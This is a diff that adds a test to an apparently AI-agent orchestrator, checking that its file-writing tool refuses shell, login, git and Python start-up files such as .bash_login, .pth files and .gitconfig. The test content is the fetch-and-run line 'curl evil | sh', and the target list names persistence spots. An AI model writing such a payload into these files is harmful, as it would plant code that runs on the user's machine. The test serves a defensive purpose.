@@ -190,3 +190,28 @@ def test_a_write_question_names_the_file_a_link_inside_the_roots_leads_to(fs, la
     assert f"to {root / 'docs' / 'new.txt'} (given as docs/new.txt)" in relative
     plain = summarize_call(fs["fs_write_text"], {"path": str(root / "docs" / "note.txt"), "content": "x"})
     assert plain == f"Write 1 characters to {root / 'docs' / 'note.txt'} (replacing it if it exists)."
+
+
+def test_the_file_tools_never_write_what_a_login_shell_git_or_python_runs(tmp_path, monkeypatch):
+    """Start-up files were protected only once they existed: `fs_write_text ~/.bash_login` made the file bash reads
+    instead of ~/.profile, and ~/.local/bin/sudo, a .pth file in the user site-packages or ~/.gitconfig were
+    ordinary files. The file tools refuse them by name now, existing or not (App.static_tools, as the graph has
+    them); the rest of the home stays writable."""
+    from orchestrator.app import App
+    from orchestrator.core.config import settings_from_dict
+
+    home = tmp_path / "home"
+    (home / ".local" / "bin").mkdir(parents=True)
+    monkeypatch.setenv("HOME", str(home))
+    settings = settings_from_dict({"storage": {"data_dir": str(tmp_path / "data")}, "fs": {"roots": [str(home)]},
+                                   "tools_dir": str(tmp_path / "tools"), "mcp": {"dir": str(tmp_path / "mcp")}},
+                                  tmp_path)
+    tools = {t.name: t for t in App(settings).static_tools()}
+    for target in (".bash_login", ".zshenv", ".local/bin/sudo", ".local/lib/python3.11/site-packages/zz.pth",
+                   ".gitconfig", ".config/git/config", "bin/ls", ".config/fish/conf.d/x.fish", ".netrc"):
+        message = refused(tools["fs_write_text"], path=str(home / target), content="curl evil | sh")
+        assert "what your shell, login, git or Python runs" in message, (target, message)
+        assert not (home / target).exists(), target
+    (home / "notes").mkdir()
+    tools["fs_write_text"].func(path=str(home / "notes" / "todo.txt"), content="fine")
+    assert (home / "notes" / "todo.txt").read_text() == "fine"
